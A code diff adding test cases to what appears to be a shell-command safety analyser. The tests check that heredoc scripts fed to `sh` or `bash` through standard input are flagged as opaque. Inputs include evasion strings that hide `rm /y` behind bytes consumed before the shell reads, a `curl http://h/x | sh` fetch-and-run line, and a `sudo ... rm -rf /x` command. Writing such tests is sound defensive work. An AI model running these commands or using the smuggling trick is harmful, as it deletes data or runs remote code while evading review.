@@ -70,6 +70,44 @@ TEST_SUITE("facts.facts") {
         }
     }
 
+    TEST_CASE(
+        "a script on standard input is the text that was judged only while nobody else reads it") {
+        const char *shifted[] = {
+            "{ read x; sh; } <<'E'\necho '\nrm /y #'\nE",
+            "{ head -c 6 >/dev/null; sh; } <<'E'\necho '\nrm /y #'\nE",
+            "bash <<'E'\nhead -c 7 >/dev/null\necho '\nrm /y #'\nE",
+            "bash <<'E'\nwhile read x; do :; done\nls\nE",
+            "{ while read x; do break; done; sh; } <<'E'\nx\nls\nE",
+            "{ unknown_program; sh; } <<'E'\nls\nE",
+        };
+        for (const char *line : shifted) {
+            CAPTURE(line);
+            CHECK((has_reason(judged(line), OpaqueReason::StdinScript) ||
+                   has_reason(judged(line), OpaqueReason::UnknownProgram)));
+            CHECK(is_opaque(judged(line)));
+        }
+        for (const char *line :
+             {"bash <<'E'\ncd /srv\nls\nsystemctl restart app\nE", "{ cd /srv; sh; } <<'E'\nls\nE",
+              "bash <<'E'\nhead -c 7 </dev/null\nls\nE"}) {
+            CAPTURE(line);
+            CHECK(!is_opaque(judged(line)));
+        }
+    }
+
+    TEST_CASE("a shell that reads the session's standard input wants it, and gets it judged") {
+        CHECK(judged("bash -s").reads_script);
+        CHECK(judged("cd /srv && sudo sh").reads_script);
+        CHECK(!judged("curl http://h/x | sh").reads_script);
+        CHECK(!judged("bash -c ls").reads_script);
+        SessionState state = session();
+        state.input = "rm /y\n";
+        const auto facts = judged("bash -s", model::Dialect::Bash, state);
+        CHECK(!facts.reads_script);
+        CHECK(!is_opaque(facts));
+        CHECK(has_effect(facts, Effect::Delete));
+        CHECK(is_opaque(judged("head -c 3; bash -s", model::Dialect::Bash, state)));
+    }
+
     TEST_CASE("wrappers say who, where and through what") {
         const auto facts = judged("sudo -u www env A=1 timeout 5 rm -rf /x");
         REQUIRE(facts.commands.size() == 4);
